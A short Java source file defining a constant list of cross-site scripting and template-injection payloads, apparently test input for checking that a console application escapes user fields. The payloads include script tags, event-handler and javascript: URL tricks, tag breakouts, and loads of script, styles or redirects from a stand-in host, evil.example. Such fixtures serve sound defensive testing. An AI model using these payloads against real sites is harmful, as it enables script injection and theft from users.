package org.casereviewupdate.console;

import java.util.List;

/** What somebody may put into a field in the hope that a page takes it for its own. */
final class HostileWords {

    static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "<script src=//evil.example/x.js></script>",
            "\"><script>alert(1)</script>",
            "'><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</pre><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img/src=\"x\"/onerror=alert`1`>",
            "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<a href=javascript:alert(1)>here</a>",
            "[here](javascript:alert(1))",
            "![x](x\" onerror=\"alert(1))",
            "<style>@import '//evil.example/x.css';</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<base href=//evil.example/>",
            "<form action=//evil.example><button>go</button></form>",
            "<math><mtext></p><img src=x onerror=alert(1)></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "{inject:frame.sender}{#eval '{1}' /}${7*7}{{7*7}}",
            "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
            "<!--><img src=x onerror=alert(1)>-->",
            "]]><script>alert(1)</script><![CDATA[");

    private HostileWords() {}
}
